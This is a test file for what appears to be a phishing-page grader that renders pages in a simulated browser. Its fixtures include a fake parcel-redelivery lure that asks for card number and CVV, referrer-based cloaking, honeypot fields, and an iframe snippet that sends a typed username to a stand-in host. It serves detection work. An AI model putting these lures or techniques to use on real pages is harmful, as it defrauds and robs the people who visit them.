import { describe, expect, test } from 'bun:test'
import { grade } from '../../../src/trust/grade.ts'
import { captureOf } from '../captures.ts'
import { open } from './open-page.ts'

const drawn = (script: string, before = '') => open(`${before}<script>${script}</script>`)

describe('an element is found by its id alone, whenever it came', () => {
  const BOX = '<div id=box></div>'
  const BUTTON = '<button id=go>Go</button>'
  const MAKES = "const b = document.createElement('button'); b.textContent = 'Go'"
  test.each([
    ['as markup of another', `box.innerHTML = '${BUTTON}'`],
    ['beside another', `box.insertAdjacentHTML('afterend', '${BUTTON}')`],
    ['in place of another', `box.outerHTML = '${BUTTON}'`],
    ['made and appended', `${MAKES}; b.id = 'go'; document.body.appendChild(b)`],
    ['made and put before another', `${MAKES}; b.id = 'go'; box.before(b)`],
    ['made and put in place of another', `${MAKES}; b.setAttribute('id', 'go'); box.replaceWith(b)`],
    [
      'in a part that was made',
      `${MAKES}; b.id = 'go'; const p = document.createElement('p'); p.append(b); box.append(p)`,
    ],
    ['with its id alone later', `${MAKES}; box.append(b); b.id = 'go'`],
    [
      'out of a template',
      `const t = document.createElement('template'); t.innerHTML = '${BUTTON}'; box.append(t.content.cloneNode(true))`,
    ],
    ['by writing', `document.write('${BUTTON}')`],
    ['by writing in pieces', `document.write('<button i'); document.write('d=go>Go</button>')`],
    ['in a step before', `box.innerHTML = '<p id=inner></p>'; inner.innerHTML = '${BUTTON}'`],
  ])('%s', (_, make) => {
    const { pressed, scripts } = drawn(
      `${make}; const found = document.getElementById('go'); go.onclick = () => { found.textContent = 'Gone' }`,
      BOX,
    )
    expect([scripts.failed, pressed.at(-1)?.includes('Gone')]).toEqual([0, true])
  })

  test('and a variable of the page goes before it', () => {
    const { loaded } = drawn("var go = 'own'; box.innerHTML = '<i id=go></i>'; document.title = go", BOX)
    expect(loaded).toContain('<title>own</title>')
  })
})

test('what is written in turns stands in its order, and in its place', () => {
  const { loaded } = open(
    `<p>a</p><script>for (const one of ['b', 'c', 'd']) {
      document.write('<p class=w>' + one + '</p>'); document.querySelector('.w') }</script><p>e</p>`,
  )
  expect(loaded?.match(/<p[^>]*>[a-e]/g)?.map((text) => text.at(-1))).toEqual(['a', 'b', 'c', 'd', 'e'])
})

test('what is shown to those alone who come from a search is seen', () => {
  const { loaded } = drawn(
    "if (/google|bing/.test(document.referrer)) document.body.append('overlay'); else document.body.append('nothing')",
  )
  expect(loaded).toContain('overlay')
})

const TOLD = '<h1>Your parcel is on hold</h1><p>Pay the redelivery fee.</p><button id=go>Pay</button>'
const ASKED =
  '<input placeholder="Card number"><input placeholder="MM/YY"><input placeholder="CVV"><button>OK</button>'

test('a story that one step tells counts where another one asks', () => {
  const body = `<div id=box></div><script>box.innerHTML = '${TOLD}'; go.onclick = () => { box.innerHTML = '${ASKED}' }</script>`
  const { verdict, signals } = grade(captureOf('https://www.quarnelz-site.com/p', { body }))
  expect([verdict, signals.map(({ id }): string => id)]).toEqual(['dangerous', ['content.card_story']])
})

test.each([
  ['no key leads to', '<input id=trap name=website tabindex=-1 autocomplete=off>'],
  ['nobody is told of', '<p aria-hidden=true><input id=trap name=website></p>'],
])('a field that %s is left empty, and what asks for that goes on', (_, trap) => {
  const { pressed } = drawn(
    "go.onclick = () => { if (!trap.value && user.value) document.body.append('further') }",
    `${trap}<input id=user><button id=go>Go</button>`,
  )
  expect(pressed.join()).toContain('further')
})

const FRAME =
  "const f = document.createElement('iframe'); document.body.append(f); const d = f.contentDocument"
test('what stands in a frame that a script writes is filled in and pressed', () => {
  const { acts } = drawn(
    `${FRAME}; d.open(); d.write('<input id=user><button id=go>Go</button>'); d.close()
    d.getElementById('go').onclick = () => { location.href = 'https://other.example/?u=' + d.getElementById('user').value }`,
  )
  expect(acts.map(({ kind, detail }) => `${kind} ${detail}`).join()).toMatch(
    /navigate https:\/\/other\.example\/\?u=\w/,
  )
})

test('a telephone number goes on behind its country’s', () => {
  const { pressed } = drawn(
    "go.onclick = () => { if (tel.value.replace(/[^\\d+]/g, '').length > 10) document.body.append('further') }",
    '<input id=tel type=tel value="+48 "><button id=go>Go</button>',
  )
  expect(pressed.join()).toContain('further')
})

test.each([
  ['an example of figures', 'placeholder="000.000.000-00"', 11],
  ['a keyboard of figures', 'inputmode=numeric', 11],
  ['a short example', 'placeholder=12345', 5],
])('a field with %s is filled in with figures', (_, has, digits) => {
  const { pressed } = drawn(
    `go.onclick = () => { if (box.value.replace(/\\D/g, '').length === ${digits}) document.body.append('further') }`,
    `<input id=box ${has}><button id=go>Go</button>`,
  )
  expect(pressed.join()).toContain('further')
})

test('who registers a worker gets one, and may ask for notifications then', () => {
  const { acts } = drawn(
    "navigator.serviceWorker.register('/w.js').then((one) => one.pushManager.subscribe()).catch(() => document.title = 'No')",
  )
  expect(acts.map(({ kind, detail }) => `${kind} ${detail}`)).toContain('permission notifications')
})
